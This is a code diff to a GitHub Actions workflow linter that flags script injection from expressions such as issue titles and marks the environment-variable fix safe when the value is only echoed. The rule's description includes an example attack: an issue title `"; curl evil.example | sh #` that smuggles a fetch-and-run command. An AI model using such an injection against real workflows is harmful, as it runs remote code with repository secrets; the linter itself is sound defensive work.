@@ -17,6 +17,9 @@ if TYPE_CHECKING:
     from vetline_analyzers.syntax.document.workflow import Expression, Step
 
 _BOUNDED = frozenset({"boolean", "number", "choice", "environment"})
+_PRINTS = re.compile(r"""\s*echo "[^"'`\\#()|]*""")
+_ENDS = re.compile(r"""\A\s*echo "[^"'`\\#()|]*"(?:\s*>>?\s*"?\$[\w{}]+"?)?\s*\Z""")
+_OPEN = re.compile(r"""<<|["'`\\]""")
 _SHELLS = frozenset({"", "bash", "sh"})
 
 
@@ -75,6 +78,7 @@ def _fix(document: Document, step: Step, expression: Expression, said: str) -> F
     )
     entry = f"{name}: ${{{{ {expression.inner.strip()} }}}}"
     place = Edit(expression.span, f"${{{name}}}")
+    safe = _is_echoed(document, step, expression, name)
     env = step.node.pair("env")
     if env is None:
         indent = indent_at(document.text, run.span.start)
@@ -85,7 +89,33 @@ def _fix(document: Document, step: Step, expression: Expression, said: str) -> F
         edit = Edit(Span(first, first), f"{entry}\n{indent_at(document.text, first)}")
     else:
         return None
-    return Fix("Hand it over as an environment variable", (edit, place), safe=False)
+    return Fix("Hand it over as an environment variable", (edit, place), safe=safe)
+
+
+def _is_echoed(document: Document, step: Step, expression: Expression, name: str) -> bool:
+    """Whether the place is within double quotes of a line that prints, where a variable stands for its value.
+
+    The line is read as the shell of a Unix runner reads it; no here-document or quote before it may be open, and
+    nothing else in the file may be called like the variable.
+    """
+    text, at = document.text, expression.span.start
+    run = step.node.pair("run")
+    system = step.job.string("runs-on") if step.job is not None else ""
+    if run is None or not (step.node.string("shell") or system.startswith(("ubuntu", "macos"))):
+        return False
+    if not step.node.string("shell") and document.root.get("defaults") is not None:
+        return False
+    if step.job is not None and step.job.get("defaults") is not None:
+        return False
+    line = max(text.rfind("\n", 0, at) + 1, run.value.at)
+    whole = text[line : text.find("\n", at) if "\n" in text[at:] else None]
+    before = text[run.value.at : line]
+    return (
+        _PRINTS.fullmatch(text[line:at]) is not None
+        and _ENDS.search(whole) is not None
+        and not _OPEN.search(before)
+        and re.search(rf"\b{name}\b", text) is None
+    )
 
 
 RULE = ConfigurationRule(
@@ -99,7 +129,7 @@ RULE = ConfigurationRule(
 chosen by whoever opens the pull request or issue; with a quote and a `$(…)` in it, it becomes commands that
 run with the workflow's token and secrets.
 """,
-    attack='Open an issue titled `"; curl evil.example | sh #` and the workflow runs it with its secrets.',
+    attack='Opens an issue titled `"; curl evil.example | sh #` and the workflow runs it with its secrets.',
     advice='Set an environment variable from the expression (`env: TITLE: ${{ … }}`) and use `"$TITLE"` in the '
     "script; in `github-script` read `context.payload`.",
     bad=(
